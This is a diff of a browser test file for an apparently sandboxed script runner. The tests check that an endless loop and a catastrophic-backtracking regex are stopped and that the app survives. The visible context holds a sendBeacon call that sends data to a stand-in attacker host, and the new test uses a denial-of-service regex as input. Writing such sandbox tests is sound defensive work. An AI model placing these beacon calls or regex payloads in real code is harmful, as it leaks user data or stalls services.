@@ -143,7 +143,19 @@ navigator.sendBeacon('https://evil.example/', 'Tea pot');
 test('an endless loop is stopped, and the app goes on', async () => {
   await run(opened, { ready: 'loop', mode: 'session' });
   await opened.page.locator('[data-ended]').waitFor();
-  expect(await opened.page.locator('[data-ended]').textContent()).toContain('did not answer for a second');
+  expect(await opened.page.locator('[data-ended]').textContent()).toContain(
+    'ran for over a second without a pause',
+  );
+  expect(await opened.page.locator('iframe').count()).toBe(0);
+  await expectAlive(opened);
+});
+
+test('a call that no guard can end is stopped with its frame', async () => {
+  const markup = `<script>/^(a+)+$/.exec('a'.repeat(60) + 'b')</script>`;
+  await run(opened, { mode: 'session', markup });
+  const ended = opened.page.locator('[data-ended]');
+  await ended.waitFor();
+  expect(await ended.textContent()).toContain('did not answer for');
   expect(await opened.page.locator('iframe').count()).toBe(0);
   await expectAlive(opened);
 });
